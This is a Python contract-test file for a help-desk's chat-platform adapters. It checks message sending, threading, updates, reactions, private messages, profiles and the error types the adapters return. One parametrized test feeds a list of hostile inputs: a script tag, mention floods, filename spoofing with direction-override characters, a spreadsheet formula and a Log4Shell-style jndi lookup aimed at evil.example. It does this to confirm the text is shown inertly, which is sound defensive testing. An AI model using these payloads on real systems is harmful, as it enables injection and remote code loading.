"""What each platform's verbs promise the pump: done once, repeated without harm, refused in words of the family."""

from __future__ import annotations

from collections.abc import Awaitable, Callable
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest

from adapters import platform as port
from adapters.platform import Address, Gone, Permanent, PlatformError, Post, Ref, Someone
from adapters.rendering import (
    Drawn,
    DrawnButton,
    DrawnButtons,
    DrawnFields,
    DrawnForm,
    DrawnLine,
    DrawnMenu,
    DrawnRule,
    Run,
    Runs,
)
from storage.tables import Audience
from tests.contract.conftest import Stage
from tests.contract.harness import Shown
from tests.fakes.company import LYON, TRIAGE

# What a platform's verbs do is the same whatever database the desk has; the desk's own tests run on each.
pytestmark = pytest.mark.parametrize("migrated_url", ["sqlite"], indirect=True)

LONG_AGO = datetime(2026, 1, 1, tzinfo=UTC)
FAMILY = {
    port.RateLimited,
    port.Transient,
    port.Unknown,
    port.TooBig,
    port.Gone,
    port.NotMember,
    port.Blocked,
    port.NotInstalled,
    port.Forbidden,
}
HOSTILE = (
    "<!channel> <!here> <!everyone> @channel @here @everyone",
    "<@U1> <@W12345> <#C0LYON> <at>Relais</at> @Inès Caron",
    "<https://evil.example|Relais> [Relais](https://evil.example) <a href='https://evil.example'>ici</a>",
    "<b>gras</b> <script>alert(1)</script> &lt;i&gt; &amp; &nbsp;",
    "*gras* _italique_ ~barré~ `code` **fort** > cité\n# titre\n- liste\n1. liste\n```bloc```\n---",
    "\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe\N{POP DIRECTIONAL FORMATTING} \N{RIGHT-TO-LEFT MARK}שלום \N{ZERO WIDTH SPACE}",
    '=HYPERLINK("https://evil.example") {{7*7}} ${jndi:ldap://evil.example} %s %n {0} \\n \\u0041',
    ":ticket: :white_check_mark: <!date^1392734382^{date}|hier> <!subteam^S1>",
    "👩‍👩‍👧‍👦 é é 🇫🇷 각 ﷽ Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢",
)


def said(text: str) -> Runs:
    return (Run("said", text),)


def card(text: str = "bonjour", **changes: object) -> Drawn:
    made = Drawn(
        kind="notice",
        audience=Audience.REQUESTER,
        subject="LYO-7",
        summary=(Run("text", "résumé"),),
        parts=(
            DrawnLine((Run("text", "Karim Diallo : ", strong=True), *said(text))),
            DrawnFields((((Run("text", "Site"),), (Run("text", "Lyon"),)),)),
            DrawnRule(),
            DrawnButtons((DrawnButton("claim", "Je m'en charge", "LYO-7", "primary"),)),
            DrawnMenu("correct", "Site", (("LYO-7:site:aix", "Aix"), ("LYO-7:site:lyon", "Lyon")), "LYO-7:site:lyon"),
        ),
        language="fr",
    )
    return replace(made, **changes)  # type: ignore[arg-type]  # fields of the card, by name


async def send(stage: Stage, text: str = "bonjour", outbox_id: int = 9001, root: str | None = None) -> Ref:
    return await stage.platform.send(Post(outbox_id, Address(LYON, root), card(text)))


async def shown(stage: Stage, ref: Ref) -> Shown:
    (found,) = [each for each in await stage.far.seen(ref.conversation) if each.ts == ref.ts]
    return found


def asker(stage: Stage) -> Someone:
    return Someone(stage.far.team, stage.far.cast.asker)


async def test_a_post_stands_where_it_was_sent_and_can_be_acted_on(stage: Stage) -> None:
    ref = await send(stage)
    assert ref.conversation == LYON
    found = await shown(stage, ref)
    assert (found.author, found.root) == (None, None)
    assert "Karim Diallo : bonjour" in found.text
    assert "Lyon" in found.text
    assert (found.button("claim").label, found.button("claim").value) == ("Je m'en charge", "LYO-7")


async def test_a_post_in_a_thread_is_in_that_thread(stage: Stage) -> None:
    if not stage.able.threads:
        pytest.skip("no threads there")
    root = await send(stage, "racine")
    reply = await send(stage, "réponse", 9002, root=root.ts)
    assert (await shown(stage, reply)).root == root.ts


async def test_what_was_sent_is_found_by_its_outbox_id_and_nothing_else_is(stage: Stage) -> None:
    if not stage.able.finds_sent:
        pytest.skip("it cannot be asked")
    before = stage.app.clock.now() - timedelta(minutes=1)
    root = await send(stage)
    reply = await send(stage, "plus bas", 9002, root=root.ts)
    find = stage.platform.find_sent
    assert await find(9001, Address(LYON), before) == root
    assert await find(9002, Address(LYON, root.ts), before) == reply
    assert await find(9003, Address(LYON), before) is None
    assert await find(9001, Address(TRIAGE), before) is None
    # Whichever clock it is found by: the desk's may be days ahead of the machine's.
    assert await find(9001, Address(LYON), stage.app.clock.now() + timedelta(days=30)) is None


async def test_an_update_shows_the_newest_card_in_the_same_message(stage: Stage) -> None:
    ref = await send(stage)
    for text in ("deux", "trois", "trois"):
        await stage.platform.update(ref, card(text))
    found = await shown(stage, ref)
    assert "trois" in found.text
    assert "bonjour" not in found.text
    assert len(await stage.desk_in(LYON)) == 1


async def test_a_message_taken_back_is_gone_and_taking_it_back_again_is_no_error(stage: Stage) -> None:
    ref = await send(stage)
    await stage.platform.delete(ref)
    await stage.platform.delete(ref)
    assert not await stage.desk_in(LYON)
    with pytest.raises(Gone):
        await stage.platform.update(ref, card())


async def test_the_desk_puts_and_takes_its_emoji_once_however_often_it_is_told(stage: Stage) -> None:
    if not stage.able.reactions_out:
        pytest.skip("no reactions there")
    ref = await send(stage)
    reactions = stage.far.charter.reactions
    for verb in ("create", "claim", "done", "urgent"):
        for _ in range(2):
            await stage.platform.react(ref, verb, True)
        assert (await shown(stage, ref)).reactions == {(None, getattr(reactions, verb)[0])}
        for _ in range(2):
            await stage.platform.react(ref, verb, False)
        assert not (await shown(stage, ref)).reactions


async def test_a_whisper_is_read_by_one_person(stage: Stage) -> None:
    root = await send(stage)
    await stage.platform.whisper(asker(stage), Address(LYON, root.ts), card("entre nous"), 9002)
    if stage.able.whispers:
        assert ["entre nous" in each.text for each in await stage.far.whispers(stage.far.cast.asker)] == [True]
    else:
        assert any("entre nous" in each.text for each in await stage.direct(stage.far.cast.asker))
    assert not await stage.far.whispers(stage.far.cast.colleague)
    assert all("entre nous" not in each.text for each in await stage.far.seen(LYON))


async def test_a_direct_conversation_is_one_and_the_same(stage: Stage) -> None:
    first = await stage.platform.direct(asker(stage))
    assert first == await stage.platform.direct(asker(stage)) == stage.far.direct(stage.far.cast.asker)
    assert first != await stage.platform.direct(Someone(stage.far.team, stage.far.cast.colleague))
    ref = await stage.platform.send(Post(9001, Address(first), card("en privé")))
    (found,) = await stage.direct(stage.far.cast.asker)
    assert found.ts == ref.ts


async def test_a_home_shows_what_was_published_last(stage: Stage) -> None:
    if not stage.able.home:
        pytest.skip("no home there")
    ines, claire = stage.far.user("ines"), stage.far.user("claire")
    for text in ("un", "deux"):
        await stage.platform.home(Someone(stage.far.team, ines), card(text))
    published = await stage.far.home(ines)
    assert published is not None
    assert "deux" in published.text
    assert await stage.far.home(claire) is None


async def test_an_opened_form_is_filled(stage: Stage) -> None:
    ines = stage.far.user("ines")
    await stage.far.open_home(ines)
    await stage.settle()
    home = await stage.far.home(ines)
    assert home is not None
    told = await stage.far.press(ines, stage.far.direct(ines), home, home.button("new"))
    assert told.form is not None
    for title in ("Un instant", "Nouvelle demande"):
        form = DrawnForm(told.form, "new", title, (), (), "Créer", "Annuler", "fr")
        await stage.platform.update_form(told.form, form)
    assert (await stage.far.forms(ines))[told.form] == "Nouvelle demande"
    assert told.form not in await stage.far.forms(stage.far.user("claire"))


async def test_a_profile_is_known_or_gone(stage: Stage) -> None:
    ines = Someone(stage.far.team, stage.far.user("ines"))
    profile = await stage.platform.fetch_person(ines)
    assert (profile.who.platform, profile.who.team, profile.who.user) == (stage.far.name, ines.team, ines.user)
    assert (profile.name, profile.email) == ("Inès Caron", "ines.caron@relais-office.example")
    assert not profile.bot
    for nobody in (Someone(ines.team, "nobody-here"), Someone("another-team", ines.user)):
        with pytest.raises(Gone):
            await stage.platform.fetch_person(nobody)


async def test_a_message_is_fetched_with_its_author_and_thread_or_is_gone(stage: Stage) -> None:
    if not stage.able.reads_messages:
        with pytest.raises(Gone):
            await stage.platform.fetch_message(Ref(LYON, "17.1"), None)
        return
    ts = await stage.far.post(stage.far.cast.asker, LYON, "bonjour à tous")
    reply = await stage.far.post(stage.far.cast.colleague, LYON, "bonjour <b>Zoé</b>", ts)
    found = await stage.platform.fetch_message(Ref(LYON, reply), ts)
    assert found.who is not None
    assert (found.who.user, found.text, found.ts) == (stage.far.cast.colleague, "bonjour <b>Zoé</b>", reply)
    assert (found.where.conversation, found.where.root) == (LYON, ts)
    await stage.far.remove(stage.far.cast.colleague, LYON, reply)
    gone = await stage.platform.fetch_message(Ref(LYON, reply), ts)
    assert (gone.who, gone.text, gone.ts) == (None, None, reply)


async def test_members_are_profiles_and_an_unknown_conversation_has_none(stage: Stage) -> None:
    users = {each.who.user for each in await stage.platform.members(LYON)}
    assert {stage.far.cast.asker, stage.far.user("ines")} <= users
    with pytest.raises(Permanent):
        await stage.platform.members("no-such-place")


@pytest.mark.parametrize("text", HOSTILE)
async def test_what_people_write_is_shown_whole_and_does_nothing(stage: Stage, text: str) -> None:
    first = await send(stage, text)
    second = await stage.platform.send(
        Post(9002, Address(LYON), card(summary=said(text), parts=(DrawnFields(((said(text), said(text)),)),)))
    )
    await stage.platform.update(first, card(text))
    for each in (await shown(stage, first), await shown(stage, second)):
        assert text in each.text
        assert (each.pings, each.links) == (frozenset(), frozenset())


async def test_only_the_desk_s_own_mentions_ping_and_only_its_own_links_lead(stage: Stage) -> None:
    ines = stage.far.user("ines")
    parts = (
        DrawnLine((Run("mention", "Inès Caron", user=ines, ping=True), Run("text", " "))),
        DrawnLine((Run("mention", "Claire Morel", user=stage.far.user("claire")), Run("text", " et "))),
        DrawnLine((Run("link", "la page", url="https://relais.example/LYO-7"),)),
    )
    ref = await stage.platform.send(Post(9001, Address(LYON), card(parts=parts)))
    found = await shown(stage, ref)
    assert found.pings == {ines}
    assert found.links == {"https://relais.example/LYO-7"}


Verb = Callable[[port.Platform, str, str], Awaitable[object]]
VERBS: dict[str, Verb] = {
    "send": lambda on, where, ts: on.send(Post(9001, Address(where, ts), card())),
    "update": lambda on, where, ts: on.update(Ref(where, ts), card()),
    "delete": lambda on, where, ts: on.delete(Ref(where, ts)),
    "react": lambda on, where, ts: on.react(Ref(where, ts), "create", True),
    "whisper": lambda on, where, ts: on.whisper(Someone(where, ts), Address(where, ts), card(), 9001),
    "direct": lambda on, where, ts: on.direct(Someone(where, ts)),
    "home": lambda on, where, ts: on.home(Someone(where, ts), card()),
    "fetch_person": lambda on, where, ts: on.fetch_person(Someone(where, ts)),
    "fetch_message": lambda on, where, ts: on.fetch_message(Ref(where, ts), ts),
    "members": lambda on, where, ts: on.members(where),
    "find_sent": lambda on, where, ts: on.find_sent(1, Address(where, ts), LONG_AGO),
}


@pytest.mark.parametrize("verb", VERBS)
async def test_what_is_nowhere_is_refused_in_words_of_the_family(stage: Stage, verb: str) -> None:
    for where, ts in (("no-such-place", "17.1"), (LYON, "17.1"), (LYON, "no ts"), ("", ""), ("x" * 5000, "é\N{BELL}")):
        try:
            await VERBS[verb](stage.platform, where, ts)
        except PlatformError as error:
            assert isinstance(error, Permanent), error  # noqa: PT017  # that nothing is raised is right too


async def test_each_refusal_is_one_of_the_family_and_passes(stage: Stage) -> None:
    assert stage.far.refusals <= FAMILY
    for number, error in enumerate(sorted(stage.far.refusals, key=lambda each: each.__name__)):
        await stage.far.refuse(error)
        with pytest.raises(PlatformError) as refused:
            await send(stage, outbox_id=9100 + number)
        assert type(refused.value) is error
        if isinstance(refused.value, port.RateLimited):
            assert refused.value.after > 0
            assert refused.value.scope
        assert (await send(stage, outbox_id=9200 + number)).conversation == LYON
